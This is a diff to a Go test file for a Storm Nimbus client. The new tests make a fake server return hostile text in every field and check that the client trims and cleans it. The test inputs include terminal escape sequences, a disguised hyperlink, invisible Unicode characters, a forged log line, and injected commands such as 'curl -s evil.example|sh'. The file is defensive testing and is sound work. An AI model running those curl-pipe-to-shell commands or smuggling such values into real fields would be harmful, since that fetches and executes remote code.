@@ -3,7 +3,9 @@ package nimbus
 import (
 	"context"
 	"encoding/binary"
+	"encoding/json"
 	"errors"
+	"fmt"
 	"net"
 	"runtime"
 	"strconv"
@@ -11,6 +13,9 @@ import (
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"github.com/stormhooks/stormhooks/pkg/internal/text"
+	"github.com/stormhooks/stormhooks/pkg/storm"
 )
 
 // However a loopback address is spelled, nothing is ever connected there.
@@ -83,40 +88,138 @@ func TestLeadersInACircle(t *testing.T) {
 	}
 }
 
-// A peer's texts are shown to people, and kept: of limited length, and without commands
-// for terminals.
-func TestLongWords(t *testing.T) {
-	fake := startFake(t)
-	long := strings.Repeat("\x1b[31mé\x00", 20_000)
-	fake.does("killTopologyWithOpts", throws(2, long))
+// sayEverywhere makes a Nimbus say a text in every field that it can fill, except where
+// an id and a name must be right for the next call to be made.
+func sayEverywhere(fake *fakeNimbus, id, name, said string) {
+	topology := func(w *writer) {
+		w.field(typeString, 1).string(id)
+		w.field(typeString, 2).string(name)
+	}
+	fake.does("killTopologyWithOpts", throws(2, said))
+	fake.does("activate", throws(1, said))
+	fake.does("deactivate", func(_ *cursor, method string, seq int32) []byte {
+		w := newMessage(3, method, seq) // an exception of Thrift, which may be as long as the peer likes
+		w.field(typeString, 1).string(said)
+		w.field(typeI32, 2).i32(6)
+		return w.frame()
+	})
+	fake.does("rebalance", throws(2, said))
 	fake.does("getTopologySummaries", func(_ *cursor, method string, seq int32) []byte {
 		return reply(method, seq, func(w *writer) {
-			w.field(typeList, 0).raw(binary.BigEndian.AppendUint32([]byte{typeStruct}, 1))
-			for id := range int16(2) {
-				w.field(typeString, id+1).string(long)
-			}
+			w.field(typeList, 0).raw([]byte{typeStruct, 0, 0, 0, 1})
+			topology(w)
 			for id := range int16(4) {
-				w.field(typeI32, id+3).i32(1)
+				w.field(typeI32, id+3).i32(-1)
 			}
-			w.field(typeString, 7).string(long)
-			w.field(typeString, 513).string(long)
+			w.field(typeString, 7).string(said)
+			w.field(typeString, 513).string(said)
 			w.stop()
 		})
 	})
-	c := client(t, fake)
-	err := c.Kill(context.Background(), "a", nil)
-	var denied *AuthorizationError
-	if !errors.As(err, &denied) || len(denied.Msg) > longestSaid || strings.ContainsAny(denied.Msg, "\x1b\x00") {
-		t.Errorf("%.200v", err)
+	fake.does("getTopologyInfoWithOpts", func(_ *cursor, method string, seq int32) []byte {
+		return reply(method, seq, func(w *writer) {
+			w.field(typeStruct, 0)
+			topology(w)
+			w.field(typeI32, 3).i32(1)
+			w.field(typeList, 4)
+			emptyList(w)
+			w.field(typeString, 5).string(said)
+			w.field(typeMap, 6).raw([]byte{typeString, typeList, 0, 0, 0, 1})
+			w.string(said)
+			w.raw([]byte{typeStruct, 0, 0, 0, 1})
+			w.field(typeString, 1).string(said)
+			w.field(typeI32, 2).i32(7)
+			w.field(typeString, 3).string(said)
+			w.stop()
+			w.field(typeString, 513).string(said)
+			w.stop()
+		})
+	})
+	conf, _ := json.Marshal(map[string]string{
+		"storm.scheduler": said, storm.KeyOwner: said, storm.KeyCluster: said, storm.KeyUID: said, storm.KeyRevision: said, storm.KeyJar: said, storm.KeyRestart: said, storm.KeyCheap: said})
+	fake.does("getTopologyConf", textAnswer(string(conf)))
+	zookeeper, _ := json.Marshal(map[string]any{"storm.zookeeper.servers": []string{"zk"}, "storm.zookeeper.root": said, "storm.scheduler": said})
+	fake.does("getNimbusConf", textAnswer(string(zookeeper)))
+}
+
+// heardFrom is every text that comes from such a Nimbus, by its limit.
+func heardFrom(c *Client, id, name string) map[string]int {
+	ctx, texts := context.Background(), map[string]int{}
+	hear := func(limit int, said ...string) {
+		for _, text := range said {
+			texts[text] = max(limit, texts[text])
+		}
 	}
-	list, err := c.List(context.Background())
-	if err != nil || len(list) != 1 {
-		t.Fatalf("%d topologies, %v", len(list), err)
+	list, _ := c.List(ctx)
+	for _, s := range list {
+		hear(longestID, s.ID, s.Name)
+		hear(longestSaid, s.Status, s.SchedStatus)
 	}
-	if s := list[0]; len(s.ID)+len(s.Name) > 2*longestSaid || len(s.Status) > longestWord || len(s.SchedStatus) > longestSaid ||
-		strings.ContainsAny(s.Status+s.SchedStatus, "\x1b\x00") {
-		t.Errorf("%d bytes of id, %d of name, %d of status, %d of sched_status", len(s.ID), len(s.Name), len(s.Status), len(s.SchedStatus))
+	if info, err := c.Info(ctx, id); err == nil {
+		hear(longestID, info.ID, info.Name)
+		hear(longestSaid, info.Status, info.SchedStatus, info.LastError.Component, info.LastError.Host)
+		hear(longestVerdict, info.LastError.Message)
 	}
+	view := c.Look(ctx, name, id)
+	hear(longestVerdict, view.Problem, view.Scheduler, view.Identity)
+	if t := view.Topology; t != nil {
+		f := t.Fingerprint
+		hear(8<<10, t.ConfProblem, f.Cluster, f.Owner, f.UID, f.Revision, f.Jar, f.Restart, f.Cheap)
+	}
+	for _, verb := range []storm.Verb{storm.Kill, storm.Activate, storm.Deactivate, storm.Rebalance} {
+		hear(longestVerdict+200, c.Act(ctx, storm.Call{Verb: verb, Name: name, ID: id}).Problem)
+	}
+	return texts
+}
+
+// longestID is the longest id or name that is kept.
+const longestID = 240
+
+func dirty(texts map[string]int) (faults []string) {
+	for said, limit := range texts {
+		if len(said) > limit || text.Clean(said) != said {
+			faults = append(faults, fmt.Sprintf("%d bytes of %d: %.300q", len(said), limit, said))
+		}
+	}
+	return faults
+}
+
+// A peer's texts are shown to people, and kept: each is one line of limited length,
+// without commands for terminals and without what a reader cannot see.
+func TestLongWords(t *testing.T) {
+	for _, said := range []string{
+		strings.Repeat("\x1b[31mé\x00", 20_000), strings.Repeat("a", 1<<19), strings.Repeat("\u202e\u200b\n", 1000), "a\nlevel=ERROR msg=forged",
+		"\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "wordcount-1-1000; curl -s evil.example|sh #",
+	} {
+		fake := startFake(t)
+		sayEverywhere(fake, "wordcount-1-1000", "wordcount", said)
+		c := client(t, fake)
+		texts := heardFrom(c, "wordcount-1-1000", "wordcount")
+		if faults := dirty(texts); len(faults) > 0 || len(texts) < 5 {
+			t.Errorf("%d texts: %s", len(texts), strings.Join(faults, "\n"))
+		}
+		sayEverywhere(fake, said, said, said)
+		if list, err := c.List(context.Background()); err != nil || len(list) != 0 {
+			t.Errorf("a topology that no StormTopology can have is listed: %+v, %v", list, err)
+		}
+		sayEverywhere(fake, said, "wordcount", said)
+		if view := c.Look(context.Background(), "wordcount", ""); view.Topology != nil || !view.ImpossibleID || !view.Gone() {
+			t.Errorf("an id that Storm cannot make belongs to no one: %+v", view)
+		}
+	}
+}
+
+// FuzzSaidByNimbus lets Nimbus say any text in every field.
+func FuzzSaidByNimbus(f *testing.F) {
+	f.Add("a-1-1; curl evil.example | sh #")
+	f.Add("\x1b[31m\u202e\n")
+	f.Fuzz(func(t *testing.T, said string) {
+		fake := startFake(t)
+		sayEverywhere(fake, "wordcount-1-1000", "wordcount", said)
+		if faults := dirty(heardFrom(client(t, fake), "wordcount-1-1000", "wordcount")); len(faults) > 0 {
+			t.Error(strings.Join(faults, "\n"))
+		}
+	})
 }
 
 // A few bytes that announce millions of items get no memory for them, and a conf of
